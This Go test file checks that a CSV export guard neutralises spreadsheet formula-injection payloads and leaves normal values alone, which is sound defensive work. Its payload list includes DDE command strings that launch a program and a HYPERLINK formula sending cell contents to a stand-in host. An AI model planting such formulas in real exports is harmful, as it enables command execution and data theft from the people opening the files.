package tabular

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// payloads are texts that some spreadsheet takes for a formula or a command.
// Source: the lists of OWASP (CSV Injection) and what they grew from.
var payloads = []string{
	"=1+1", "=cmd|'/c calc'!A1", `=HYPERLINK("http://x.example/?"&A1,"ok")`, "=IMPORTXML(A1,B1)", "=1+1;", "==1",
	"+1+1", "+cmd|'/c calc'!A1", "+", "-1+1", "-cmd|'/c calc'!A1", "-", "--1", "@SUM(1+1)*cmd|'/c calc'!A1", "@", "@A1",
	"\t=1+1", "\t", "\r=1+1", "\r\n=1+1", "\n=1+1", "\x00=1+1", "\x00", "'=1+1", "''=1+1", "'-5", "'+5", "'@x", "'\t=1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "=\"a\"\"b\"", "+1,5", "-1,5", "-5%", "+52 55 1234 5678", "-", "=1\n2", "-2+3+cmd",
	"x;=1+1;y", "x;'=1+1", "x\t@A1", "x\n=1+1", "x\r\n+1;", ";-1+1", ";;=1", "x;＝1", "gracias;-)",
}

func TestGuardPayloads(t *testing.T) {
	for _, kind := range []Type{Text, Key, Design, Coded, Integer} {
		c := &Column{Name: "x", Type: kind}
		for _, p := range payloads {
			got := Guard(c, p)
			if got == p {
				t.Errorf("%q in a column of type %s stays as it is", p, kind)
			}
			for _, cell := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
				if strings.Contains(formulaStarts, cell[:size(cell, 0)]) {
					t.Errorf("%q in a column of type %s is cut into %q", p, kind, cell)
				}
			}
			if back := Unguard(got); back != p {
				t.Errorf("%q in a column of type %s reads back %q", p, kind, back)
			}
		}
	}
}

func TestGuardLeavesTheRest(t *testing.T) {
	for _, tt := range []struct {
		name string
		kind Type
		cell string
	}{
		{"a negative number", Integer, "-5"},
		{"a negative amount", Money, "-5.50"},
		{"a number with an exponent", Design, "-1.5e-07"},
		{"a number with a plus sign", Design, "+5"},
		{"a blank", Text, ""},
		{"an apostrophe alone", Text, "'"},
		{"an apostrophe and a word", Text, "'tis"},
		{"a formula sign inside", Text, "a=b"},
		{"a formula sign behind a separator and a space", Text, "a; =b"},
		{"paragraphs", Text, "uno\r\n\r\ndos\n\ttres"},
		{"accents", Text, "año; índice"},
		{"a space in front", Text, " =1"},
		{"a key", Key, "0001.1.2"},
		{"a date", Date, "2025-03-14"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := &Column{Type: tt.kind}
			if got := Guard(c, tt.cell); got != tt.cell {
				t.Errorf("Guard(%q) = %q", tt.cell, got)
			}
			if got := Unguard(tt.cell); got != tt.cell {
				t.Errorf("Unguard(%q) = %q", tt.cell, got)
			}
		})
	}
}

// What is guarded reads as people expect it.
func TestGuardForm(t *testing.T) {
	for in, want := range map[string]string{
		"=1": "'=1", "''=1": "'''=1", "a;=1": "a;'=1", "a\n- uno\n- dos": "a\n'- uno\n'- dos", "\t=1": "'\t'=1",
	} {
		if got := Guard(&Column{Type: Text}, in); got != want {
			t.Errorf("%q is guarded as %q, want %q", in, got, want)
		}
	}
}

// A text stays a text: the same digits that are a number elsewhere are guarded.
func TestGuardTextThatIsANumber(t *testing.T) {
	if got := Guard(&Column{Type: Text}, "-5"); got != "'-5" {
		t.Errorf(`a text "-5" is written %q, want "'-5"`, got)
	}
}

// No cell of a file that holds the payloads begins like a formula, as a program
// finds them that knows nothing of guards; the rows read back as they were.
func TestPayloadsInAFile(t *testing.T) {
	var persons [][]string
	for _, p := range payloads {
		persons = append(persons, []string{p, "1", p})
	}
	dir := t.TempDir()
	if _, err := Unpack(bytes.NewReader(set(t, persons, nil)), dir, false); err != nil {
		t.Fatal(err)
	}
	file, err := os.Open(filepath.Join(dir, "person.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	cells, err := csv.NewReader(file).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range cells {
		for _, c := range row {
			if c == "" || strings.Contains(formulaStarts+"\t\r\n", c[:size(c, 0)]) {
				t.Errorf("a cell is %q", c)
			}
		}
	}
	s, err := Open(os.DirFS(dir))
	if err != nil {
		t.Fatal(err)
	}
	i := 0
	for row, err := range s.Rows("person") {
		if err != nil {
			t.Fatal(err)
		}
		if row[0] != payloads[i] || row[2] != payloads[i] {
			t.Errorf("%q reads back %q", payloads[i], row)
		}
		i++
	}
	if i != len(payloads) {
		t.Errorf("%d rows, want %d", i, len(payloads))
	}
}

func tableOf(t testing.TB, name string) *Table {
	t.Helper()
	b, err := ParseCodebook([]byte(book))
	if err != nil {
		t.Fatal(err)
	}
	return b.Table(name)
}
